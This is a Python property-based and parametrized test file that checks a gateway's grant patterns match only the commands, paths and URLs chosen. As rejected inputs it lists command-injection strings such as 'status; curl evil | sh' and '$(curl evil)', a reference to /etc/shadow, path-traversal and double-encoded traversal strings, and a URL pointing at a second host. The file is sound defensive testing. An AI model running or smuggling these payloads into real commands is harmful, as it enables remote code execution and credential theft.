"""Patterns of grants: they never cover more than was chosen."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.requests.grants import Condition, Pattern

pytestmark = pytest.mark.req("APR-3")

scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text())
conditions = st.one_of(
    st.builds(Condition, arg=st.text(max_size=3), op=st.just("equals"), values=st.tuples(scalars)),
    st.builds(
        Condition, arg=st.text(max_size=3), op=st.just("prefix"), values=st.tuples(st.text(max_size=3))
    ),
    st.builds(
        Condition,
        arg=st.text(max_size=3),
        op=st.just("one_of"),
        values=st.lists(scalars, min_size=1, max_size=3).map(tuple),
    ),
)
patterns = st.builds(
    Pattern,
    args_hash=st.one_of(st.none(), st.just("h")),
    conditions=st.lists(conditions, max_size=2).map(tuple),
)
arguments = st.dictionaries(st.text(max_size=3), scalars, max_size=3)


@given(pattern=patterns, args=arguments)
def test_a_pattern_means_the_same_after_it_was_stored(pattern: Pattern, args: dict[str, Any]) -> None:
    again = Pattern.from_json(pattern.to_json())

    assert again == pattern
    assert again.covers(args, "h") == pattern.covers(args, "h")


@given(pattern=patterns, args=arguments)
def test_what_is_covered_fulfils_every_condition(pattern: Pattern, args: dict[str, Any]) -> None:
    if pattern.covers(args, "other"):
        assert pattern.args_hash is None
        assert all(condition.arg in args for condition in pattern.conditions)


@pytest.mark.parametrize(
    ("condition", "covered", "asks"),
    [
        (Condition(arg="n", op="equals", values=(1,)), [1], [True, "1", 1.5, None, [1], {}]),
        (Condition(arg="n", op="one_of", values=("a", 2)), ["a", 2], ["A", "a ", "2", False]),
        (
            Condition(arg="n", op="prefix", values=("/srv/",)),
            ["/srv/", "/srv/a", "/srv/a..b", "/srv/a/b"],
            [
                "/srv",
                "/srvx",
                "/srv/../etc",
                "/srv/a/../../etc",
                "/srv/a\\..\\b",
                "/srv/..",
                5,
                None,
                ["/srv/"],
            ],
        ),
    ],
)
def test_a_condition_holds_for_these_values_only(
    condition: Condition, covered: list[object], asks: list[object]
) -> None:
    assert [value for value in covered if not condition.holds({"n": value})] == []
    assert [value for value in asks if condition.holds({"n": value})] == []
    assert not condition.holds({})


@pytest.mark.req("APR-3")
@pytest.mark.parametrize(
    "rest",
    [
        "status; curl evil | sh",
        "x /etc/shadow",
        "x$(curl evil)",
        "a\nb",
        "a&b",
        "`id`",
        "..;/etc",
        "%25252e%25252e/etc",
    ],
)
def test_a_folder_covers_no_second_command_and_no_way_out(rest: str) -> None:
    condition = Condition(arg="command", op="prefix", values=("/opt/bin/",))

    assert condition.holds({"command": "/opt/bin/status"})
    assert not condition.holds({"command": f"/opt/bin/{rest}"})


def test_a_url_may_have_parameters_and_no_second_place() -> None:
    condition = Condition(arg="url", op="prefix", values=("https://example.org/docs/",))

    assert condition.holds({"url": "https://example.org/docs/a?b=1&c=2"})
    assert not condition.holds({"url": "https://example.org/docs/a https://evil.example"})


def test_a_pattern_reads_as_a_person_would_say_it() -> None:
    both = Pattern(
        conditions=(
            Condition(arg="path", op="prefix", values=("/srv/",)),
            Condition(arg="n", op="one_of", values=(1, "x")),
        )
    )

    assert both.words() == 'only where path starts with "/srv/" and n is one of 1, "x"'
    assert Pattern(args_hash="h").words() == "exactly the same arguments"
    assert Pattern().words() == "any arguments"
